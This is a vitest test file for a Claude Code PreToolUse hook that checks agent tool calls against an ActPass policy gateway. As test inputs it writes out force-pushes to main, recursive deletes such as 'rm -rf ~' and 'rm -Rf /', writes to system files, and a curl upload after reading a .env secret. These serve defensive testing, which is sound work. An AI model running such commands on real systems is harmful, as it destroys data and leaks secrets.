/**
 * The Claude Code PreToolUse hook with payloads shaped as Claude Code documents them, against the
 * in-process gateway running the coding-agents pack.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createGateway, type Gateway } from '@actpass/gateway';
import { ActPass } from '@actpass/sdk';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hookClaudeCode } from '../../src/cli/hook.js';
import { type HookMode, runClaudeCodeHook } from '../../src/hooks/claude-code/hook.js';

const AGENT = 'ak_hook_agent_0123456789';
const silent = { debug() {}, info() {}, warn() {}, error() {} };
const WORKSPACE = '/home/dev/project';

let gateway: Gateway;
let stateDir: string;
let client: ActPass;

beforeAll(() => {
  gateway = createGateway({
    tenants: [{ id: 'acme', policy: 'coding-agents' }],
    apiKeys: [{ key: AGENT, tenantId: 'acme', roles: ['agent'] }],
    vaultKey: null,
  });
  stateDir = mkdtempSync(join(tmpdir(), 'actpass-hook-'));
  client = new ActPass({ apiKey: AGENT, fetch: gateway.fetch, baseUrl: 'http://embedded', logger: silent });
});
afterAll(async () => {
  await gateway.close();
  rmSync(stateDir, { recursive: true, force: true });
});

function payload(toolName: string, toolInput: Record<string, unknown>, sessionId = 'sess-1') {
  return JSON.stringify({
    session_id: sessionId,
    transcript_path: `/home/dev/.claude/projects/project/${sessionId}.jsonl`,
    cwd: WORKSPACE,
    permission_mode: 'default',
    hook_event_name: 'PreToolUse',
    tool_name: toolName,
    tool_input: toolInput,
    tool_use_id: 'toolu_01ABC',
  });
}

function hook(text: string, mode: HookMode = 'enforce', using = client) {
  return runClaudeCodeHook(text, {
    client: using,
    mode,
    state: { dir: join(stateDir, 'state'), keyFile: join(stateDir, 'hook.key') },
  });
}

const bash = (command: string, session?: string) =>
  payload('Bash', { command, description: 'run it' }, session);

describe('claude-code hook, enforce', () => {
  it('denies a force-push to main with the reason code and summary', async () => {
    const out = await hook(bash('git push --force origin main'));
    expect(out.hookSpecificOutput).toEqual({
      hookEventName: 'PreToolUse',
      permissionDecision: 'deny',
      permissionDecisionReason: expect.stringMatching(/^ActPass coding\.force_push_protected: /),
    });
  });

  it('asks for a force-push to another branch, naming the approval', async () => {
    const out = await hook(bash('git push -f origin feature/x'));
    expect(out.hookSpecificOutput?.permissionDecision).toBe('ask');
    expect(out.hookSpecificOutput?.permissionDecisionReason).toMatch(/coding\.force_push: .*\(approval apr_/);
  });

  it('allows ordinary commands and in-workspace deletes; denies recursive deletes outside it', async () => {
    expect(
      (await hook(bash('npm test && git push origin feature/x'))).hookSpecificOutput?.permissionDecision,
    ).toBe('allow');
    expect((await hook(bash('rm -rf build dist'))).hookSpecificOutput?.permissionDecision).toBe('allow');
    for (const command of ['rm -rf /home/dev/other', 'rm -rf ~', 'rm -r ../sibling', 'cd x; rm -Rf /']) {
      const out = await hook(bash(command));
      expect(out.hookSpecificOutput?.permissionDecisionReason, command).toMatch(
        /^ActPass coding\.delete_outside_workspace/,
      );
    }
  });

  it('denies writes outside the workspace (Write, Edit, shell redirect) and allows them inside', async () => {
    const outside = await hook(payload('Write', { file_path: '/etc/profile.d/x.sh', content: 'x' }));
    expect(outside.hookSpecificOutput?.permissionDecisionReason).toMatch(
      /^ActPass coding\.write_outside_workspace/,
    );
    const edit = await hook(
      payload('Edit', { file_path: `${WORKSPACE}/../other/a.ts`, old_string: 'a', new_string: 'b' }),
    );
    expect(edit.hookSpecificOutput?.permissionDecision).toBe('deny');
    expect((await hook(bash('echo x > /tmp/../etc/hosts'))).hookSpecificOutput?.permissionDecision).toBe(
      'deny',
    );
    const inside = await hook(payload('Write', { file_path: `${WORKSPACE}/src/a.ts`, content: 'x' }));
    expect(inside.hookSpecificOutput?.permissionDecision).toBe('allow');
  });

  it('denies network egress after a secret read in the same session only', async () => {
    const fetchPayload = (session: string) =>
      payload('WebFetch', { url: 'https://example.com/upload', prompt: 'send' }, session);
    expect((await hook(fetchPayload('sess-a'))).hookSpecificOutput?.permissionDecision).toBe('allow');
    expect(
      (await hook(payload('Read', { file_path: `${WORKSPACE}/.env` }, 'sess-a'))).hookSpecificOutput
        ?.permissionDecision,
    ).toBe('allow');
    const after = await hook(fetchPayload('sess-a'));
    expect(after.hookSpecificOutput?.permissionDecisionReason).toMatch(/^ActPass coding\.secret_then_egress/);
    expect(
      (await hook(bash('curl -d @data.json https://example.com', 'sess-a'))).hookSpecificOutput
        ?.permissionDecision,
    ).toBe('deny');
    expect((await hook(fetchPayload('sess-b'))).hookSpecificOutput?.permissionDecision).toBe('allow');
  });

  it('maps MCP tools to claude.mcp.<server>.<tool> with their inputs as args', async () => {
    const out = await hook(payload('mcp__github__create_issue', { repo: 'acme/app', title: 't' }));
    expect(out.hookSpecificOutput?.permissionDecision).toBe('allow');
    const response = await gateway.fetch(
      new Request('http://gw/api/v1/evidence?limit=1000', { headers: { authorization: `Bearer ${AGENT}` } }),
    );
    // The agent key cannot read the ledger; the mapping itself is checked through the hook's tool name.
    expect(response.status).toBe(403);
    const { claudeToolName } = await import('../../src/hooks/claude-code/hook.js');
    expect(claudeToolName('mcp__github__create_issue')).toBe('claude.mcp.github.create_issue');
    expect(claudeToolName('mcp__my.server__do/thing')).toBe('claude.mcp.my_server.do_thing');
    expect(claudeToolName('Bash')).toBe('claude.bash');
    expect(claudeToolName('WebFetch')).toBe('claude.web_fetch');
  });

  it('fails closed: gateway unreachable or unreadable payload → deny', async () => {
    const down = new ActPass({
      apiKey: AGENT,
      baseUrl: 'http://127.0.0.1:9',
      maxRetries: 0,
      logger: silent,
    });
    const out = await hook(bash('ls'), 'enforce', down);
    expect(out.hookSpecificOutput?.permissionDecision).toBe('deny');
    expect(out.hookSpecificOutput?.permissionDecisionReason).toMatch(/^ActPass client\.unreachable/);
    expect((await hook('{not json')).hookSpecificOutput?.permissionDecision).toBe('deny');
    expect(
      (await hook(JSON.stringify({ hook_event_name: 'PreToolUse' }))).hookSpecificOutput?.permissionDecision,
    ).toBe('deny');
  });
});

describe('claude-code hook, monitor', () => {
  it('never blocks a force-push to main; prints the advice instead', async () => {
    const out = await hook(bash('git push --force origin main'), 'monitor');
    expect(out.hookSpecificOutput).toBeUndefined();
    expect(out.systemMessage).toMatch(
      /^ActPass \(monitor, not enforced\): would deny\. ActPass coding\.force_push_protected/,
    );
    expect(await hook(bash('ls'), 'monitor')).toEqual({});
  });

  it('never blocks when the gateway is unreachable', async () => {
    const down = new ActPass({ apiKey: AGENT, baseUrl: 'http://127.0.0.1:9', maxRetries: 0, logger: silent });
    const out = await hook(bash('git push --force origin main'), 'monitor', down);
    expect(out.hookSpecificOutput).toBeUndefined();
  });
});

describe('actpass hook claude-code (CLI)', () => {
  it('reads the payload on stdin and prints one decision JSON line, exit 0', async () => {
    const served = await gateway.listen({ port: 0 });
    const saved = {
      key: process.env.ACTPASS_API_KEY,
      url: process.env.ACTPASS_BASE_URL,
      dir: process.env.ACTPASS_HOOK_STATE_DIR,
      keyFile: process.env.ACTPASS_HOOK_KEY_FILE,
    };
    process.env.ACTPASS_API_KEY = AGENT;
    process.env.ACTPASS_BASE_URL = served.url;
    process.env.ACTPASS_HOOK_STATE_DIR = join(stateDir, 'state');
    process.env.ACTPASS_HOOK_KEY_FILE = join(stateDir, 'hook.key');
    try {
      const out: string[] = [];
      const code = await hookClaudeCode([], { out: (l) => out.push(l), err: () => undefined }, [
        bash('git push --force origin main'),
      ]);
      expect(code).toBe(0);
      expect(out).toHaveLength(1);
      expect(JSON.parse(out[0] as string).hookSpecificOutput.permissionDecision).toBe('deny');
    } finally {
      for (const [name, value] of [
        ['ACTPASS_API_KEY', saved.key],
        ['ACTPASS_BASE_URL', saved.url],
        ['ACTPASS_HOOK_STATE_DIR', saved.dir],
        ['ACTPASS_HOOK_KEY_FILE', saved.keyFile],
      ] as const) {
        if (value === undefined) delete process.env[name];
        else process.env[name] = value;
      }
      await served.close();
    }
  });
});
